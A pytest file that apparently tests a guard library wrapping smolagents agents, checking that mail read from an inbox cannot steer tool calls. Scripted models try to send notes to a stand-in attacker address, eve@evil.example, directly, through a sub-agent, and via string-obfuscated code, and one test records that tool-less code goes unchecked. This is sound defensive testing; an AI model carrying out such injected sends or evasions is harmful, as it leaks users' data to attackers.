"""smolagents, with a model of the tests'."""

from __future__ import annotations

from typing import Any

import pytest
from smolagents import ChatMessage, CodeAgent, Model, ToolCallingAgent, tool
from smolagents.models import ChatMessageToolCall, ChatMessageToolCallFunction, MessageRole

import example
from remit_client import WrongClient
from remit_client.smolagents import definitions, protect

from .spec import MAIL, READ, TASK, Adapter, Office, Run, Script, send


class Scripted(Model):  # type: ignore[misc, unused-ignore]
    def __init__(self, script: Script) -> None:
        super().__init__(model_id="scripted")
        self.script = iter(script)
        self.seen: list[str] = []

    def generate(self, messages: list[Any], *args: Any, **kwargs: Any) -> ChatMessage:
        self.seen = [str(message.content[0]["text"]) for message in messages if message.role == MessageRole.TOOL_RESPONSE]
        step = next(self.script)
        calls = [("final_answer", {"answer": step})] if isinstance(step, str) else step
        return ChatMessage(
            role=MessageRole.ASSISTANT,
            content="",
            tool_calls=[ChatMessageToolCall(id=f"c{n}", type="function", function=ChatMessageToolCallFunction(name=name, arguments=arguments)) for n, (name, arguments) in enumerate(calls)],
        )


class TestToolCallingAgent(Adapter):
    # A tool is told its arguments alone.
    knows_messages = False

    def run(self, run: Run, *, protected: bool = True) -> None:
        tools: Any = [tool(f) for f in run.office.functions]
        model = Scripted(run.script)
        try:
            if not protected:
                ToolCallingAgent(tools=tools, model=model, verbosity_level=0).run(run.task)
                return
            with run.remit() as remit:
                session = remit.session(tools=definitions(tools))
                run.session = session.id
                session.user(run.task)
                tools = protect(session, tools, approval_seconds=run.approval_seconds)
                ToolCallingAgent(tools=tools, model=model, verbosity_level=0).run(run.task)
        finally:
            run.seen = model.seen


def test_a_managed_agent_is_protected_by_its_tools() -> None:
    office = Office()
    tools: Any = [tool(f) for f in office.functions]
    with Run([]).remit() as remit:
        session = remit.session(tools=definitions(tools))
        session.user(TASK)
        reads, sends, _ = protect(session, tools)
        mailer = ToolCallingAgent(tools=[sends], model=Scripted([[send("eve@evil.example")], [send("ann@corp.example")], "Sent."]), verbosity_level=0, name="mailer", description="Mails.")
        ToolCallingAgent(tools=[reads], managed_agents=[mailer], model=Scripted([[READ], [("mailer", {"task": "Send the notes"})], "Done."]), verbosity_level=0).run(TASK)
    assert office.sent == ["ann@corp.example"]


class Coder(Model):  # type: ignore[misc, unused-ignore]
    def __init__(self, *code: str) -> None:
        super().__init__(model_id="coder")
        self.code = iter(code)

    def generate(self, messages: list[Any], *args: Any, **kwargs: Any) -> ChatMessage:
        return ChatMessage(role=MessageRole.ASSISTANT, content=f"Thought: on it.\n<code>\n{next(self.code)}\n</code>")


@pytest.mark.parametrize(
    ("code", "sent"),
    [
        ("send_email('ann@corp.example', body='notes')", ["ann@corp.example"]),
        ("send_email(to=mail.split()[5], body='notes')", []),
        # What code makes of what it has read stands nowhere, and is external.
        ("send_email(to='ev' + 'e@' + mail.split('@')[1].split()[0], body='notes')", []),
        ("send_email(to=mail.split()[5][::-1][::-1], body=mail)", []),
    ],
)
def test_calls_of_code_are_decided(code: str, sent: list[str]) -> None:
    office = Office()
    tools: Any = [tool(f) for f in office.functions]
    with Run([]).remit() as remit:
        session = remit.session(tools=definitions(tools), unseen_user=True)
        session.user(TASK)
        model = Coder(f"mail = read_inbox()\nprint(mail)\n{code}", "final_answer('Done.')")
        CodeAgent(tools=protect(session, tools), model=model, verbosity_level=0).run(TASK)
    assert MAIL.split()[5] == "eve@evil.example" and office.sent == sent


def test_code_itself_is_not_decided() -> None:
    """The limit that the guide names: code that uses no tool."""
    office = Office()
    ran: list[str] = []
    tools: Any = [tool(f) for f in office.functions]
    with Run([]).remit() as remit:
        session = remit.session(tools=definitions(tools), unseen_user=True)
        session.user(TASK)
        agent = CodeAgent(tools=protect(session, tools), model=Coder("log.append('ran')", "final_answer('Done.')"), verbosity_level=0, additional_authorized_imports=[])
        agent.run(TASK, additional_args={"log": ran})
    assert ran == ["ran"]


def test_the_wrong_session_says_so() -> None:
    with pytest.raises(WrongClient):
        protect(Run([]).async_remit(), [])  # type: ignore[arg-type]


def test_the_example_runs(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    example.run("with_smolagents", capsys, monkeypatch)
